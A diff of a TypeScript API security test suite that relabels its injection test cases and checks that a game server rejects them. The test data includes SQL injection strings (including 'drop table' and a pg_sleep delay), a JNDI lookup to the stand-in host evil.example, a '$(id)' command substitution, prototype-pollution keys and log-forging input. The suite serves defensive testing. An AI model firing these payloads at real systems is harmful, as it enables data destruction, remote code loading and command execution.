@@ -15,32 +15,32 @@ async function formulaInAnExport(target: Target): Promise<Answer> {
   return { ...answer, status: /(?:^|[,"\n])=HYPERLINK/.test(answer.text) ? 500 : answer.status };
 }
 
-/** A search that finds everybody has been talked into it. */
+/** Turns a search that finds anything into a failure. */
 const findsNobody = (q: string) => async (target: Target) => {
   const answer = await target.as('stranger', search(q), { from: '127.0.0.51' });
   return { ...answer, status: answer.status === 200 && answer.json<unknown[]>().length > 0 ? 500 : answer.status };
 };
 
 export const INJECTION: readonly Attack[] = [
-  ['a search that is always true', 'stranger', findsNobody("%' or '1'='1"), '200'],
-  ['a search for every letter', 'stranger', findsNobody('%%'), '200'],
-  ['a search that ends the table', 'stranger', findsNobody("x'; drop table player; --"), '200'],
-  ['a search that waits', 'stranger', findsNobody("x' and pg_sleep(10) is not null --"), '200'],
-  ['a search with a template', 'stranger', findsNobody('{{7*7}}${7*7}'), '200'],
-  ['a search with a lookup', 'stranger', findsNobody('${jndi:ldap://evil.example/a}'), '200'],
-  ['a line of one’s own in the log', 'stranger', get(search('x\n{"level":"fatal"}')), '400 request.invalid'],
-  ['SQL for an id', 'stranger', get(`/api/players/${encoded('1 or 1=1')}`), '404 request.notFound'],
-  ['SQL for a game', 'stranger', get(`/api/game?gameId=${encoded("' union select 1 --")}`), '400 request.invalid'],
-  ['SQL for a page', 'administrator', get('/api/admin/players?page=1+union+select+1'), '400 request.invalid'],
+  ['a condition that is always true', 'stranger', findsNobody("%' or '1'='1"), '200'],
+  ['wildcards', 'stranger', findsNobody('%%'), '200'],
+  ['a drop table statement', 'stranger', findsNobody("x'; drop table player; --"), '200'],
+  ['a sleep function', 'stranger', findsNobody("x' and pg_sleep(10) is not null --"), '200'],
+  ['a template expression', 'stranger', findsNobody('{{7*7}}${7*7}'), '200'],
+  ['a JNDI lookup', 'stranger', findsNobody('${jndi:ldap://evil.example/a}'), '200'],
+  ['a forged log line', 'stranger', get(search('x\n{"level":"fatal"}')), '400 request.invalid'],
+  ['SQL as id', 'stranger', get(`/api/players/${encoded('1 or 1=1')}`), '404 request.notFound'],
+  ['SQL as game id', 'stranger', get(`/api/game?gameId=${encoded("' union select 1 --")}`), '400 request.invalid'],
+  ['SQL as page number', 'administrator', get('/api/admin/players?page=1+union+select+1'), '400 request.invalid'],
   [
-    'a condition for an id',
+    'a query operator as id',
     'stranger',
     post('/api/game/guess', { gameId: GAME, playerId: { $gt: 0 } }),
     '400 request.invalid',
   ],
-  ['a language of the prototype', 'stranger', get('/api/nations?language=__proto__'), '400 request.invalid'],
-  ['a plugin of the prototype', 'administrator', get('/api/admin/plugins/constructor'), '404 plugin.notFound'],
-  ['a command as a team', 'administrator', get(`/api/admin/teams/${encoded('$(id)')}`), '404 request.notFound'],
+  ['__proto__ as language', 'stranger', get('/api/nations?language=__proto__'), '400 request.invalid'],
+  ['constructor as plugin key', 'administrator', get('/api/admin/plugins/constructor'), '404 plugin.notFound'],
+  ['a shell command as team id', 'administrator', get(`/api/admin/teams/${encoded('$(id)')}`), '404 request.notFound'],
   ['a formula in an export', 'administrator', formulaInAnExport, '200'],
-  ['an id for the log with a line break', 'stranger', get('/api/games', { 'x-request-id': 'a\tb"}{' }), '200'],
+  ['control characters in the request id', 'stranger', get('/api/games', { 'x-request-id': 'a\tb"}{' }), '200'],
 ];
